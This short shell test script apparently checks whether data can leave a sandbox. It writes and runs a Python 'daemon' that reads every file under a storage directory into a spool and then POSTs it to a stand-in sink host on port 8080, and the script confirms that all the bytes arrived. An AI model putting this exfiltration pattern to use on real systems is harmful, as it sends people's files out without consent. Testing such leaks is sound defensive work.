. "$(dirname "$0")/../lib/check.sh"
cat > "$WORK/daemon.py" <<'END'
import os, sys, urllib.request
spool = os.environ["WORK"] + "/spool"
if not os.path.exists(spool):
    with open(spool, "wb") as w:
        for d, _, fs in os.walk(os.environ["STORE"]):
            for f in fs: w.write(open(os.path.join(d, f), "rb").read())
else:
    urllib.request.urlopen("http://%s:8080/" % os.environ["SINK"], data=open(spool, "rb").read()).read()
END
setsid --wait python3 "$WORK/daemon.py"
sleep 1
setsid --wait python3 "$WORK/daemon.py"
arrived "$WORK/got" "$(size "$STORE")"
